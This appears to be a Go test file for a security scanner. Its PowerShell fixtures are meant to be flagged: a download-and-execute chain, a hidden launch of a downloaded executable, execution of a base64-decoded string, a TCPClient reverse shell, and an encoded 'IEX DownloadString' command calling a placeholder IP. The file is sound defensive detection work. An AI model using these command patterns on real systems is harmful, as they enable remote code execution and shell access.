package secscan

import (
	"encoding/base64"
	"slices"
	"strings"
	"testing"
)

// TestPowerShell: a .ps1's download run (on one line, through a variable,
// saved by -OutFile then started), a TCPClient reverse shell and a decoded
// constant run are the code rules' findings at the sink's line; honest
// scripts (a download saved and unzipped, a comment) are not.
func TestPowerShell(t *testing.T) {
	const ps = `# Setup helper
$ErrorActionPreference = 'Stop'
# iex (iwr https://example.invalid/commented-out)
$resp = Invoke-WebRequest -UseBasicParsing -Uri 'https://x.invalid/a.ps1'
$code = $resp.Content
Invoke-Expression $code
Invoke-WebRequest -Uri https://x.invalid/tool.exe -OutFile "$env:TEMP\tool.exe"
Start-Process "$env:TEMP\tool.exe" -WindowStyle Hidden
$b = [Convert]::FromBase64String('ZWNobyBoaQ==')
$s = [Text.Encoding]::UTF8.GetString($b)
& ([scriptblock]::Create($s))
$c = New-Object System.Net.Sockets.TCPClient('203.0.113.9', 443)
$st = $c.GetStream()
while (($i = $st.Read($buf, 0, $buf.Length)) -ne 0) { $o = (iex $cmd 2>&1 | Out-String) }
Invoke-WebRequest -Uri https://x.invalid/pkg.zip -OutFile pkg.zip
Expand-Archive pkg.zip -DestinationPath .
`
	want := []string{
		"SG521 critical setup.ps1:6:1 Invoke-Expression runs a download (Invoke-WebRequest, line 4)",
		"SG521 critical setup.ps1:8:1 Start-Process runs a download (-OutFile, line 7)",
		"SG520 critical setup.ps1:11:1 & runs a constant decoded at run time (FromBase64String, line 9)",
		"SG523 critical setup.ps1:14:1 iex wires a network socket to a shell (Net.Sockets.TCPClient, line 12)",
	}
	var got []string
	for _, f := range File("setup.ps1", []byte(ps)) {
		if f.Rule >= "SG520" && f.Rule <= "SG526" {
			got = append(got, f.Rule+" "+string(f.Severity)+" "+f.Location()+" "+f.Message)
		}
	}
	if !slices.Equal(got, want) {
		t.Fatalf("findings\n%q\nwant\n%q", got, want)
	}
	honest := "$r = Invoke-RestMethod -Uri $api -Headers $h\nWrite-Output $r.name\nInvoke-WebRequest $u -OutFile a.zip\nExpand-Archive a.zip\n& ./build.ps1\n"
	for _, f := range File("ok.ps1", []byte(honest)) {
		if f.Severity == High || f.Severity == Critical {
			t.Errorf("honest script: %+v", f)
		}
	}
}

// TestEncodedCommand: powershell -EncodedCommand's base64 of UTF-16LE is
// decoded and read again: the download it runs is a finding on its line.
func TestEncodedCommand(t *testing.T) {
	var u []byte
	for _, r := range "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.5/a')" {
		u = append(u, byte(r), 0)
	}
	src := "#!/bin/sh\necho start\npwsh -NoProfile -EncodedCommand " + base64.StdEncoding.EncodeToString(u) + "\n"
	var got []string
	for _, f := range File("run.sh", []byte(src)) {
		if f.Line == 3 && (f.Severity == Critical || f.Severity == High) {
			got = append(got, f.Rule)
		}
	}
	if !slices.Contains(got, "SG507") || !strings.Contains(strings.Join(got, " "), "SG50") {
		t.Fatalf("findings on the encoded command's line: %q", got)
	}
}
